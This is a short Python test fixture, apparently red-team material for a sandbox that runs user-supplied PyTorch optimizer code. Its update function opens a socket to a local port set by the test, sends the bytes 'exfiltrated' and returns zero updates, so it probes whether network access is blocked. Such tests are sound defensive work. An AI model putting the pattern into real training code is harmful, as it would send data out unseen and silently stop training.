"""Red team: connects to a port the parent listens on at 127.0.0.1 (PORT is filled in by the test)."""
import torch

LR = 1e-3
PORT = 0


def init(p, ctx):
    return {}


def update(p, g, state, ctx):
    import socket

    s = socket.create_connection(("127.0.0.1", PORT), timeout=2)
    s.sendall(b"exfiltrated")
    return torch.zeros_like(p)
